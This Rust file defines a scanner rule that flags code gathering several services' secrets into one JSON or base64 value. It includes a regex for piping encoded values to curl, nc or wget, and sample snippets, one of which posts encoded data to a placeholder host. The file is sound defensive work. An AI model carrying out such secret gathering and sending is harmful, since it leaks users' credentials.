use crate::flow::{Inflow, Inflows};
use crate::rule::{Category, Exception, Pattern, Region, Regions, Rule, Severity};

pub(crate) const RULE: Rule<'static> = Rule {
    id: "EXFIL_SECRETS_GATHERED",
    category: Category::DataExfiltration,
    severity: Severity::Warn,
    summary: "secrets of several services gathered in one value",
    remedy: "Read each secret where it is used, and put none of them into a text.",
    patterns: &[
        Pattern {
            note: "written as JSON or encoded",
            regex: r"\bjson\.dumps?\(|\bJSON\.stringify\(|\bb64encode\(",
            regions: Regions::of(&[Region::Code]),
            exceptions: &[Exception::Without(Inflows::of(&[Inflow::ManySecrets]))],
        },
        Pattern {
            note: "a value that is encoded and piped into a request",
            regex: r#"\becho[ \t]{1,8}(?:-n[ \t]{1,8})?["\x27]?\$[^\n|]{1,80}\|[ \t]{0,8}base64\b[^\n|]{0,20}\|[ \t]{0,8}(?:curl|nc|wget)\b"#,
            regions: Regions::of(&[Region::Code, Region::Shell, Region::InlineCode]),
            exceptions: &[],
        },
    ],
    matches: &[
        "```python\ns = {'a': os.environ['OPENAI_API_KEY'], 'b': os.environ['NPM_TOKEN']}\nx = json.dumps(s)\n```",
        "```js\nconst s = { a: process.env.STRIPE_KEY, b: process.env.NPM_TOKEN };\nJSON.stringify(s);\n```",
        "```sh\necho \"${x}\" | base64 | curl -X POST https://e.example -d @-\n```",
    ],
    clean: &[
        "```python\njson.dumps({'model': model})\n```",
        "```python\nk = os.environ['ACME_KEY']\njson.dumps({'q': q})\n```",
        "```sh\necho \"name=$n\" | curl -d @- https://api.example.com\n```",
    ],
};
